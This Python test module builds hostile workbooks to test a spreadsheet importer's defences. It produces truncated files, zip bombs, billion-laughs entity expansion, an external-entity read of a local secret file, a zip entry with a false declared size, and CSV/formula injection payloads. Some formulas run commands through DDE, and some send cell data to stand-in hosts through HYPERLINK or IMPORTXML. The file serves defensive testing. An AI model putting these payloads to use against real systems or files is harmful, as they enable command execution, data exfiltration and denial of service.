"""Generators of hostile workbooks: cut, formula-laden, zip bombs, entities, missing parts."""

from __future__ import annotations

from collections.abc import Callable

from faults.hostile_files.case import HUGE_SECONDS, Case, Gen
from faults.hostile_files.content import (
    _SHEET_HEAD,
    CONTACT_HEADER,
    WORKBOOK,
    csv_text,
    full_sheet,
    person,
    sheet_rows,
    stored,
    write_xlsx,
)


def gen_truncated_xlsx(g: Gen) -> Case:
    rows = [person(g.case, i, g.rng) for i in range(g.rng.randint(5, 400))]
    whole = write_xlsx(g.file("whole.xlsx"), full_sheet(sheet_rows(CONTACT_HEADER, rows)))
    data = whole.read_bytes()
    whole.unlink()
    cut = g.rng.randint(0, len(data) - 1)
    path = g.file("cut.xlsx")
    path.write_bytes(data[:cut])
    words = ("empty",) if cut == 0 else ("xlsx",)
    return Case("truncated_xlsx", path, "refuse", words=words, note=f"cut at {cut}/{len(data)}")


_FORMULAS = (
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted",
    '=IMPORTXML(CONCAT("http://x.example/",A2),"//a")',
    "\t=1+1",
    "\r=2+2",
    "=\t1",
)


def gen_formulas(g: Gen) -> Case:
    """Formula cells in every text column: stored as typed, neutralised on export."""
    rows = []
    for i in range(g.rng.randint(3, 60)):
        row = person(g.case, i, g.rng)
        for column in ("Last name", "Company", "City", "Notes"):
            if g.rng.random() < 0.6:
                row[column] = g.rng.choice(_FORMULAS)
        # A formula cannot head a name the reader strips: keep the first name plain.
        rows.append(row)
    if g.rng.random() < 0.5:
        path = g.file("formulas.csv")
        path.write_text(csv_text(CONTACT_HEADER, rows), encoding="utf-8")
    else:
        path = write_xlsx(g.file("formulas.xlsx"), full_sheet(sheet_rows(CONTACT_HEADER, rows)))
    return Case(
        "formulas",
        path,
        "accept",
        rows=[stored(r) for r in rows],
        export=True,
        note=path.suffix,
    )


def _repeat(chunk: bytes, total: int) -> Callable[[Callable[[bytes], object]], None]:
    def stream(write: Callable[[bytes], object]) -> None:
        block = chunk * max(1, (1 << 20) // len(chunk))
        written = 0
        while written < total:
            write(block)
            written += len(block)

    return stream


def gen_zip_bomb_sheet(g: Gen) -> Case:
    """A worksheet a few MB on disk that inflates to hundreds of MB (GBs in full runs)."""
    from localpro_desktop.services.importing.xlsx_reader import MAX_SHEET_MB

    key = "bomb-sheet"
    if key not in g.cache:
        total = (g.rng.randint(1, 3) * 1024 if g.full else MAX_SHEET_MB + 8) * 1024 * 1024
        row = b'<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaa</t></is></c></row>'
        head = _SHEET_HEAD + b"<sheetData>" + sheet_rows(CONTACT_HEADER, [])

        def body(write: Callable[[bytes], object]) -> None:
            write(head)
            _repeat(row, total)(write)
            write(b"</sheetData></worksheet>")

        path = write_xlsx(g.folder / "bomb-sheet.xlsx", body, level=1)
        g.cache[key] = path
    return Case("zip_bomb_sheet", g.cache[key], "refuse", words=("unpacks",), seconds=HUGE_SECONDS)


def gen_zip_bomb_shared(g: Gen) -> Case:
    """Shared strings past their bound (refused), or just under it (read within memory)."""
    from localpro_desktop.services.importing.xlsx_reader import MAX_SHARED_STRINGS_MB

    over = g.rng.random() < 0.5
    under = MAX_SHARED_STRINGS_MB - 2 if g.full else 2
    megabytes = MAX_SHARED_STRINGS_MB + 4 if over else under
    key = f"bomb-shared-{over}"
    rows = [person(g.case, i, g.rng) for i in range(3)]
    item = b"<si><t>s</t></si>"
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://'
        b'schemas.openxmlformats.org/spreadsheetml/2006/main">'
    )

    def shared(write: Callable[[bytes], object]) -> None:
        write(head)
        _repeat(item, megabytes * 1024 * 1024 - 4096)(write)
        write(b"</sst>")

    path = write_xlsx(
        g.file(f"{key}.xlsx"), full_sheet(sheet_rows(CONTACT_HEADER, rows)), shared=shared
    )
    if over:
        return Case("zip_bomb_shared", path, "refuse", words=("unpacks",), seconds=HUGE_SECONDS)
    return Case(
        "zip_bomb_shared",
        path,
        "accept",
        rows=[stored(r) for r in rows],
        seconds=HUGE_SECONDS,
        note=f"{megabytes} MB of shared strings",
    )


def gen_declared_cells(g: Gen) -> Case:
    """Billions of declared cells: a dimension A1:XFD1048576 over a few real rows (stored),
    or real cells at the last column of many rows / the last row (refused or stored)."""
    rows = [person(g.case, i, g.rng) for i in range(g.rng.randint(2, 30))]
    body = sheet_rows(CONTACT_HEADER, rows)
    which = g.rng.choice(["dimension", "far-columns", "far-row"])
    if which == "dimension":
        ref = g.rng.choice(["A1:XFD1048576", "A1:ZZZZ99999999", "A1:A1"])
        path = write_xlsx(g.file("dimension.xlsx"), full_sheet(body, ref))
        if ref == "A1:ZZZZ99999999":  # past Excel's last column: openpyxl calls it damaged
            return Case("declared_cells", path, "refuse", words=("xlsx",), note=ref)
        return Case("declared_cells", path, "accept", rows=[stored(r) for r in rows], note=ref)
    if which == "far-columns":
        far = b"".join(
            f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>z</t></is></c></row>'.encode()
            for n in range(len(rows) + 2, len(rows) + 2 + g.rng.randint(700, 3_000))
        )
        path = write_xlsx(g.file("far-columns.xlsx"), full_sheet(body + far))
        return Case("declared_cells", path, "refuse", words=("cells",), note=which)
    far_row = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>last</t></is></c></row>'
    path = write_xlsx(g.file("far-row.xlsx"), full_sheet(body + far_row))
    names = frozenset([*(r["First name"] for r in rows), "last"])
    return Case("declared_cells", path, "either", names=names, words=("cells", "rows"), note=which)


LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


def gen_entities(g: Gen) -> Case:
    """XML entity expansion ("billion laughs") and external entities in the workbook's XML."""
    rows = [person(g.case, i, g.rng) for i in range(3)]
    where = g.rng.choice(["sheet", "shared", "workbook", "external"])
    sheet = full_sheet(sheet_rows(CONTACT_HEADER, rows))
    shared = None
    workbook = WORKBOOK
    if where == "sheet":
        sheet = LAUGHS + sheet.split(b"?>", 1)[1].replace(
            b"<sheetData>",
            b'<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
            1,
        )
    elif where == "shared":
        shared = LAUGHS + (
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<si><t>&lol9;</t></si></sst>"
        )
    elif where == "workbook":
        workbook = LAUGHS + WORKBOOK.split(b"?>", 1)[1].replace(b'name="Clients"', b'name="&lol9;"')
    else:
        secret = g.folder / "secret.txt"
        secret.write_text("TOP-SECRET-LINE", encoding="utf-8")
        doctype = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file://{secret}">]>'.encode()
        sheet = (b'<?xml version="1.0"?>\n' + doctype + sheet.split(b"?>", 1)[1]).replace(
            b"<sheetData>",
            b'<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>&x;</t></is></c></row>',
            1,
        )
    path = write_xlsx(g.file(f"entities-{where}.xlsx"), sheet, shared=shared, workbook=workbook)
    return Case("entities", path, "refuse", words=("xlsx",), note=where)


def gen_missing_part(g: Gen) -> Case:
    rows = [person(g.case, i, g.rng) for i in range(3)]
    part = g.rng.choice(
        [
            "[Content_Types].xml",
            "_rels/.rels",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/worksheets/sheet1.xml",
            "xl/sharedStrings.xml",
        ]
    )
    body = sheet_rows(CONTACT_HEADER, rows)
    if part == "xl/sharedStrings.xml":  # referenced by index from the sheet
        body = body.replace(
            b'<c r="A2" t="inlineStr"><is><t xml:space="preserve">',
            b'<c r="A2" t="s"><v>7</v></c><c r="Z2" t="inlineStr"><is><t>',
            1,
        )
    path = write_xlsx(g.file("missing.xlsx"), full_sheet(body), leave_out=part)
    if part in ("xl/sharedStrings.xml", "_rels/.rels"):
        # openpyxl finds the workbook at its usual place without _rels/.rels: either.
        names = frozenset(r["First name"] for r in rows)
        return Case("missing_part", path, "either", names=names, words=("xlsx",), note=part)
    return Case("missing_part", path, "refuse", words=("xlsx",), note=part)


def gen_lying_size(g: Gen) -> Case:
    """A worksheet whose zip directory declares a few bytes while it inflates to MBs."""
    rows = [person(g.case, i, g.rng) for i in range(g.rng.randint(3, 50))]
    pad = b"<row/>" * (g.rng.randint(1, 8) * 100_000)
    path = write_xlsx(g.file("lying.xlsx"), full_sheet(sheet_rows(CONTACT_HEADER, rows) + pad))
    data = bytearray(path.read_bytes())
    # Patch the uncompressed size of sheet1.xml in the central directory (and zip64 extra).
    name = b"xl/worksheets/sheet1.xml"
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_len = int.from_bytes(data[at + 28 : at + 30], "little")
        if data[at + 46 : at + 46 + name_len] == name:
            data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    return Case("lying_size", path, "refuse", words=("xlsx",))
